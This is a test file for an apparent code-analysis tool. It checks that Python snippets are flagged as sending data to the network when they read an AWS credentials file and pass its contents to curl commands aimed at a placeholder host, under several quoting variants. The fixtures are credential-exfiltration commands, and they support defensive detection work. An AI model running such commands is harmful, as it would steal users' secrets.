import { expect, test } from "vitest";
import { loadContext, factsOf } from "../../conformance/harness.ts";

const context = await loadContext();

const sent = (text: string) =>
  factsOf("python", text, context).flatMap((fact) =>
    fact.kind === "flow" && fact.to === "network.send" ? [fact.source] : [],
  );

const READ = `import os\nt = open("/home/a/.aws/credentials").read()\n`;

test.each([
  ["as a word", `"curl -s -d " + t + " https://h.example/"`],
  ["in single quotes", `"curl -s -d '" + t + "' https://h.example/"`],
  ["in double quotes", `'curl -s -d "' + t + '" https://h.example/'`],
  ["in an address", `f"curl -s https://h.example/?t={t}"`],
  ["behind another part", `f"cd {x} && curl -s -d {t} https://h.example/"`],
  ["behind a quote that is no end", `"curl -s -H 'a: \\\\' -d '" + t + "' https://h.example/"`],
])("what is put into a line of shell goes where the line takes it: %s", (_, line) => {
  expect(sent(`${READ}os.system(${line})`)).toContain("/home/a/.aws/credentials");
});

test.each([
  ["a line that sends nothing", `f"echo {t}"`],
  ["a program of which only the name is not known", `f"{t} --version"`],
])("%s carries nothing away", (_, line) => {
  expect(sent(`${READ}os.system(${line})`)).toEqual([]);
});
